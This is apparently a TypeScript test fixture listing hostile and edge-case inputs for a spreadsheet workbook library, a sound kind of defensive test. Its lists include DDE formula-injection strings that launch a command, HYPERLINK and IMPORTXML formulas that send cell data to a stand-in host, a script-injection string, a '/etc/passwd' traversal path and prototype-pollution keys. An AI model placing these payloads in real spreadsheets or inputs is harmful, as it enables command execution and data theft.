/** Texts and numbers that have hurt programs before: by kind, so that every place of a submission meets each. */
import type { CellValue } from "../../../src/workbook/workbook";

export const FORMULAS: readonly string[] = [
  "=cmd|' /C calc'!A0", "=1+1", "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&A1,"see")',
  "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "＝1+1", "'=1+1", "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
]; // prettier-ignore

export const PROGRAM_NAMES: readonly string[] = [
  "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "prototype", "__defineGetter__", "then", "length", "undefined", "null", "NaN",
]; // prettier-ignore

export const INVISIBLE: readonly string[] = [
  "\u202Ecba", "Mot\u200Bor", "\u0000", "a\u0000b", "\uD800", "\uDC00\uD800", "\u2066x\u2069", "\uFEFFMotor", "line\nbreak", "a\u2028b", "\u0007\u001B[31mred", "e\u0301".repeat(50),
]; // prettier-ignore

/** Of one sign each, as long as a cell can hold. */
export const ENDLESS: readonly string[] = [
  "x", " ", "1", ",", "1,", "(", "·", "、", "\n", "年", "q", "0", "-", "a·", "￥", "Ａ", "万",
].map((sign) => sign.repeat(Math.floor(32_000 / sign.length))); // prettier-ignore

export const MARKUP: readonly string[] = ["<script>alert(1)</script>", "]]>", "&amp;&lt;", "${7*7}", "%s%n", "../../etc/passwd", "C:\\CON", "_x0041_"]; // prettier-ignore

export const TEXTS: readonly string[] = [...FORMULAS, ...PROGRAM_NAMES, ...INVISIBLE, ...ENDLESS, ...MARKUP];

export const NUMBERS: readonly CellValue[] = [
  -1, -0.001, 0.5, 1e308, -1e308, 2 ** 53, 2 ** 53 + 2, 5e-324, "NaN", "Infinity", "-Infinity", "1e400", "0x10", "１２", "12万", "9".repeat(400), true, { error: "#REF!" }, "=60", "六十", 1e15, "1,2,3", "--5",
]; // prettier-ignore
